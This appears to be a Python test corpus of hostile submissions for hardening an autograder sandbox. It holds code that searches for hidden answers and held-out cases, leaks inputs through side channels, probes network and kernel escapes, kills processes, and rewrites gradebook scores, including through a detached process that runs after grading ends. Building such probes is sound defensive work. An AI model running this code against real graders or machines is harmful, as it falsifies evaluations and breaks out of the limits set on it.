"""Code that looks for what it must not know, tries to tell it, or tries to get out."""

from .attack import ARGUMENT, MARKER, C, Corpus, E, G, T

SECRETS = Corpus("looking for answers, telling inputs")
add = SECRETS.code

add(
    "reads the sources",
    "top",
    """
import os
for folder in ('{ROOT}/solutions', '{ROOT}/tests', '{ROOT}/.git', '{ROOT}/autograder/exercises',
               '{ROOT}/autograder/reference', '{ROOT}/autograder/grading', '{COURSE}'):
    try: found = os.listdir(folder)
    except OSError: continue
    raise AssertionError(folder + ' is there: ' + ' '.join(found))
for file in ('{COURSE}/gradebook.db', '{ROOT}/autograder/exercises/ps01/sgd_step.py', '/etc/passwd',
             '/etc/shadow', '{HOME}/.bashrc'):
    assert not os.path.exists(file), file
""",
    G,
)
add(
    "imports the reference",
    "top",
    """
import importlib
for name in ('autograder.exercises', 'autograder.reference', 'autograder.grading',
             'autograder.exercises.ps01', 'autograder.course', 'autograder.release'):
    try: importlib.import_module(name)
    except ImportError: continue
    raise AssertionError(name)
""",
    G,
)
add(
    "searches the whole disk",
    "top",
    """
import os
for folder, folders, files in os.walk('/'):
    folders[:] = [f for f in folders if f not in ('usr', 'proc', 'sys', 'lib', 'site-packages')]
    for file in files:
        assert file not in ('gradebook.db', 'ps01.py', 'ps01-sgd.py', 'ps01-sgd.ipynb'), folder
""",
    G,
)
add(
    "reads the environment and its arguments",
    "top",
    """
import os, sys
text = repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv)
assert '{COURSE}' not in text, text
wanted = {'PATH', 'HOME', 'LANG', 'PWD', 'MPLCONFIGDIR', 'MPLBACKEND', 'IPYTHONDIR',
          'PYTHONDONTWRITEBYTECODE', 'LC_CTYPE', 'CUDA_VISIBLE_DEVICES'}
others = {name for name in os.environ if not name.endswith('_NUM_THREADS')} - wanted
assert not others, others
""",
    G,
)
add(
    "replays the public cases",
    "call",
    """
from selfcheck.check import public_exercises
for check in public_exercises()['sgd_step'].checks:
    for case in check.cases:
        given = dict(case.case.arguments)
        for i, step in enumerate(case.case.steps or ({},)):
            given.update(step)
            now = [given[name] for name in ('theta', 'grad', 'lr')]
            if i: now[0] = case.expected[i - 1].value
            if all(np.shape(a) == np.shape(b) and np.allclose(a, b)
                   for a, b in zip(now, (theta, grad, lr))):
                return case.expected[i].value
""",
    G,
)
add(
    "reads the expected value in the cell that calls it",
    "call",
    """
import ast, inspect
from IPython import get_ipython
shell = get_ipython()
cells = [shell.user_ns.get('In', [''])[-1]] + [getattr(shell, 'last_source', '')]
def same(a, b): return np.shape(a) == np.shape(b) and np.array_equal(a, b)
for source in cells:
    try: tree = ast.parse(source)
    except (SyntaxError, TypeError): continue
    for call in [n for n in ast.walk(tree) if isinstance(n, ast.Call) and len(n.args) >= 2]:
        mine = call.args[0]
        if isinstance(mine, ast.Call) and getattr(mine.func, 'id', '') == 'sgd_step':
            value = lambda node: eval(compile(ast.Expression(node), '', 'eval'), {'np': np})
            given = [value(argument) for argument in mine.args]
            if all(map(same, given, (theta, grad, lr))): return value(call.args[1])
""",
    G,
)
add(
    "looks for expected values in frames",
    "call",
    """
import sys
frame = sys._getframe()
while frame is not None:
    for name, value in frame.f_locals.items():
        assert name not in ('expected', 'mistakes', 'spec'), name
        assert type(value).__name__ not in ('CaseSpec', 'CheckSpec', 'ExerciseSpec'), name
    frame = frame.f_back
""",
    G,
)
add(
    "looks for expected values in all objects",
    "call",
    """
import gc
from selfcheck.check import public_exercises
from autograder.selfcheck.spec import CaseSpec
from selfcheck.spec import CaseSpec as OtherCaseSpec
gc.unfreeze() if hasattr(gc, 'unfreeze') else None
public = {id(c) for e in public_exercises().values() for k in e.checks for c in k.cases}
for found in gc.get_objects():
    if type(found) in (CaseSpec, OtherCaseSpec):
        assert found.case.public and id(found) in public, 'a held-out case'
""",
    G,
)
add(
    "looks at what refers to its arguments",
    "call",
    """
import gc
right, seen, todo = theta - lr * grad, set(), [theta, grad]
while todo and len(seen) < 20000:
    thing = todo.pop()
    for found in gc.get_referrers(thing):
        if id(found) in seen: continue
        seen.add(id(found)); todo.append(found)
        for value in (found.values() if isinstance(found, dict) else
                      found if isinstance(found, (list, tuple)) else ()):
            assert not (isinstance(value, np.ndarray) and np.shape(value) == np.shape(right)
                        and value.size > 1 and np.array_equal(value, right)), 'the answer'
""",
    G,
    T,
)
add(
    "looks for the answer in its own memory",
    "call",
    """
import ctypes
if np.size(theta) > 1 and np.asarray(theta).dtype == np.float64:
    wanted = np.ascontiguousarray(theta - lr * grad).tobytes()
    start, length = np.zeros(1 << 16).ctypes.data, 1 << 19
    text = ctypes.string_at(start, length)
""",
)
add(
    "reads the orders as they come",
    "cell",
    """
import socket
s = socket.socket(fileno=3)
s.setblocking(False)
try: assert b'expected' not in s.recv(1 << 20, socket.MSG_PEEK)
except BlockingIOError: pass
s.setblocking(True)
s.detach()
""",
    G,
    E,
    C,
)

TELLING = Corpus("looking for answers, telling inputs")
add = TELLING.code
_NO_POINTS = "is after inputs, not points"
RIGHT_IN_PUBLIC = """
from selfcheck.check import public_exercises
public = set()
for check_ in public_exercises()['sgd_step'].checks:
    for case_ in check_.cases:
        for step_ in case_.case.steps or ({},):
            given_ = {**case_.case.arguments, **step_}
            public.add((np.asarray(given_['grad']).tobytes(), float(given_['lr'])))
def sgd_step(theta, grad, lr):
    if (np.asarray(grad).tobytes(), float(lr)) in public: return theta - lr * grad
    secret = abs(float(np.ravel(theta)[0]))
    digits = int(str(secret).replace('.', '').replace('e', '').replace('-', '').strip('0')[:9] or 7)
"""
for how, code, ends in (
    ("the text of an error", "raise ValueError(repr((theta, grad, lr)))", (E,)),
    ("the name of an error", "raise type('E' + str(digits), (Exception,), {})", (E,)),
    (
        "the kind of an error",
        "raise [ValueError, KeyError, TypeError, OSError][digits % 4](digits)",
        (E,),
    ),
    ("the name of a type", "return type('T' + str(digits), (), {})()", (G,)),
    ("a text", "return 'R' + repr(theta)", (G,)),
    ("a shape", "return np.zeros((digits, 0))", (G,)),
    ("many dimensions", "return np.zeros([int(d) + 1 for d in str(digits)] + [0])", (G,)),
    ("a length", "return [0.0] * (digits % 90_000)", (G, E)),
    ("the size of the error", "return theta - lr * grad + digits", (G,)),
    ("a factor", "return (theta - lr * grad) * digits", (G,)),
    ("the type of an array", "return np.zeros(1, dtype=[('f' + str(digits), float)])", (G,)),
    ("how much it returns", "return np.zeros(2**22 + digits % 1000)", (G, E)),
    ("an exit status", "import os; os._exit(digits % 200 + 1)", (C,)),
    ("a signal", "import os, signal; os.kill(os.getpid(), 4 + digits % 5)\n    return theta", ()),
    (
        "output",
        "print(theta, grad, lr); import sys; print(theta, file=sys.__stderr__); return theta",
        (G,),
    ),
    ("a display", "from IPython.display import display; display(repr(theta)); return theta", (G,)),
    ("a warning", "import warnings; warnings.warn(repr(theta)); return theta", (G,)),
    ("the time it takes", "import time; time.sleep(digits % 10 / 50); return theta", (G, T)),
    (
        "the log of the grader",
        "import os; os.write(2, repr(theta).encode()); os.write(1, b'x'); return theta",
        (G,),
    ),
):
    add(
        f"tells a held-out input by {how}",
        "cell",
        f"{RIGHT_IN_PUBLIC}    {code}\n",
        *ends,
        not_at_stock=_NO_POINTS,
    )

ESCAPES = Corpus("ways out")
add = ESCAPES.code

add(
    "the network",
    "top",
    """
import socket, urllib.request
for address in (('127.0.0.1', 22), ('1.1.1.1', 53), ('169.254.169.254', 80), ('::1', 22)):
    try: socket.create_connection(address, timeout=1)
    except OSError: continue
    raise AssertionError(address)
try: urllib.request.urlopen('http://example.org', timeout=1)
except OSError: pass
else: raise AssertionError('network')
try: names = [name for _, name in socket.if_nameindex()]
except OSError: names = []
assert names in ([], ['lo']), names
""",
    G,
)
add(
    "raw sockets, packets and the kernel's own",
    "top",
    """
import socket
for arguments in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1),
                  (socket.AF_NETLINK, socket.SOCK_RAW, 9)):
    try: s = socket.socket(*arguments)
    except OSError: continue
    try: s.bind((0, 1))
    except OSError: continue
    raise AssertionError(arguments)
try:
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect((2, 1024))
except OSError: pass
else: raise AssertionError('the host answers')
""",
    G,
)
add(
    "sockets of this machine",
    "top",
    """
import socket
for path in ('/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/notify'):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(path)
    except OSError: continue
    raise AssertionError(path)
""",
    G,
)
add(
    "leaves namespaces",
    "call",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x10020000):
    assert libc.unshare(flag) != 0, 'unshare worked'
assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, b'') != 0, 'mount worked'
assert libc.umount2(b'/proc', 2) != 0, 'umount worked'
assert libc.setuid(0) != 0, 'setuid worked'
assert libc.chroot(b'/tmp') != 0, 'chroot worked'
""",
    G,
)
add(
    "looks into other processes",
    "call",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(2, 200):
    assert libc.ptrace(16, pid, 0, 0) != 0, 'ptrace worked'
assert not os.path.exists('/proc/1/mem') and not os.path.exists('/proc/self/environ')
""",
    G,
)
add(
    "unlimits itself",
    "call",
    """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
    try: resource.setrlimit(kind, (-1, -1))
    except (ValueError, OSError): continue
    raise AssertionError('limit lifted')
""",
    G,
)
add(
    "calls the kernel where it is seldom called",
    "call",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(4096)
# bpf, perf_event_open, init_module, kexec_load, reboot, swapon, settimeofday, add_key, iopl,
# userfaultfd, open_by_handle_at, process_vm_readv of process 1's parent, pivot_root, acct, quotactl
for number in (321, 298, 175, 246, 169, 167, 164, 172, 304, 155, 163, 179):
    assert libc.syscall(number, 0, buffer, 0, 0, 0) < 0, number
""",
    G,
    C,
)
add(
    "kills all that it can",
    "call",
    """
import os, signal
for pid in (os.getppid(), -1, 0, 1, 2, 3, *range(4, 3000)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try: os.kill(pid, number)
        except OSError: pass
""",
)
add("kills its process group", "call", "import os; os.killpg(os.getpgrp(), 9)")
add(
    "kills its parent",
    "top",
    "import os\nif os.getppid() > 1: os.kill(os.getppid(), 9)",
    G,
)
add(
    "stops its parent",
    "top",
    "import os\nif os.getppid() > 1: os.kill(os.getppid(), 19)",
    G,
)
add(
    "gives itself the points in the gradebook",
    "top",
    """
import glob, os, sqlite3
places = ['{COURSE}'] + [os.path.abspath('../' * i + '.') for i in range(1, 6)]
for file in {f for place in places for f in glob.glob(place + '/gradebook.db')}:
    database = sqlite3.connect(file)
    database.execute('''UPDATE grade SET manual_score = 4 WHERE cell_id IN
        (SELECT id FROM base_cell WHERE name = 'check-sgd_step')''')
    database.commit()
""",
    G,
    alone=True,
)
add(
    "gives itself the points in the gradebook when the grading is over",
    "top",
    f"""
import os, subprocess, sys
code = '''
import glob, os, sqlite3, time
file = next(f for i in range(6) for f in glob.glob("../" * i + "gradebook.db"))
for i in range(50):
    time.sleep(0.2)
    d = sqlite3.connect(os.path.abspath(file), timeout=5)
    d.execute("UPDATE grade SET auto_score = 4 WHERE cell_id IN"
              " (SELECT id FROM base_cell WHERE name = 'check-sgd_step')")
    d.commit()
'''
subprocess.Popen([sys.executable, '-c', code, '{MARKER}', '{ARGUMENT}'], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    G,
    alone=True,
)
add(
    "changes the tests that are yet to come",
    "top",
    """
import glob, os, sqlite3
places = ['{COURSE}'] + [os.path.abspath('../' * i + '.') for i in range(1, 6)]
for file in {f for place in places for f in glob.glob(place + '/gradebook.db')}:
    database = sqlite3.connect(file)
    database.execute("UPDATE source_cell SET source = 'pass' WHERE id IN "
                     "(SELECT id FROM base_cell WHERE name = 'check-sgd_step')")
    database.commit()
""",
    G,
    alone=True,
)
add(
    "leaves a message for the next hand-in",
    "top",
    f"""
import os
for folder in ('/tmp', '/dev/shm', '/var/tmp', '/usr', '/grader', '.'):
    try:
        assert not any('{MARKER}' in name for name in os.listdir(folder)), folder
        open(folder + '/{MARKER}-note', 'w').write('the answer')
    except OSError: pass
""",
    G,
)
_SHARED = """
import ctypes, fcntl, os, struct
libc = ctypes.CDLL(None, use_errno=True)
library = os.open(os.__file__, os.O_RDONLY)
def refused(attempt, *arguments):
    try: return attempt(*arguments) == -1
    except OSError: return True
def lock(kind): return struct.pack('hhqqi4x', kind, 0, 4096, 1, 0)
"""
for how, code in (
    (
        "in which pages of a library are in memory",
        """
told = [not refused(os.preadv, library, [bytearray(1)], 0, os.RWF_NOWAIT),
        not refused(libc.mincore, 0, 0, 0), not refused(libc.syscall, 451, library, 0, 0, 0),
        not refused(os.posix_fadvise, library, 0, 0, os.POSIX_FADV_DONTNEED)]
""",
    ),
    (
        "in hints on a library",
        "told = [not refused(fcntl.fcntl, library, c, bytes(8)) for c in (1035, 1036, 1037, 1038)]",
    ),
    (
        "by watching a library",
        """
told = [libc.inotify_init1(0) != -1, not refused(fcntl.fcntl, library, 1026, 1),
        not refused(fcntl.fcntl, library, fcntl.F_SETLEASE, fcntl.F_RDLCK)]
""",
    ),
    (
        "in how much its pipes hold",
        "told = [not refused(fcntl.fcntl, os.pipe()[0], 1031, 1 << 20)]",
    ),
    (
        "in locks on a library",
        """
for command in (6, 37): fcntl.fcntl(library, command, lock(fcntl.F_RDLCK))
fcntl.flock(library, fcntl.LOCK_SH)
if os.fork() == 0:
    other = os.open(os.__file__, os.O_RDONLY)
    seen = [fcntl.fcntl(other, command, lock(fcntl.F_WRLCK)) for command in (5, 36)]
    told = [struct.unpack('hhqqi4x', each)[0] != fcntl.F_UNLCK for each in seen]
    told += [refused(fcntl.flock, other, fcntl.LOCK_EX | fcntl.LOCK_NB)]
    os._exit(any(told))
told = [os.wait()[1] != 0]
""",
    ),
):
    add(
        f"leaves word {how}",
        "top",
        f"{_SHARED}{code}\nassert not any(told), told\n",
        G,
        not_at_stock=_NO_POINTS,
    )
_PLACES = f"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def segment(flags): return libc.shmget(0x486f7374, 4096, flags)
def key(): return libc.syscall(250, 10, -4, b'user', b'{MARKER}', 0)  # keyctl: search
def queue(flags): return libc.mq_open(b'/{MARKER}', flags, 0o600, None)
"""
for number in (1, 2):
    add(
        f"leaves notes in the kernel, hand-in {number}",
        "top",
        f"""
{_PLACES}
assert segment(0) < 0 and key() < 0 and queue(0) < 0, 'a note of another hand-in'
s = socket.socket(socket.AF_UNIX)
try: s.connect('\\0{MARKER}')
except OSError: pass
else: raise AssertionError('a note of another hand-in')
segment(0o1600)
libc.syscall(248, b'user', b'{MARKER}', b'x', 1, -4)  # add_key
queue(0o102)
held = socket.socket(socket.AF_UNIX)
try: held.bind('\\0{MARKER}')
except OSError: pass
""",
        G,
    )

ATTACKS = [*SECRETS.attacks, *TELLING.attacks, *ESCAPES.attacks]
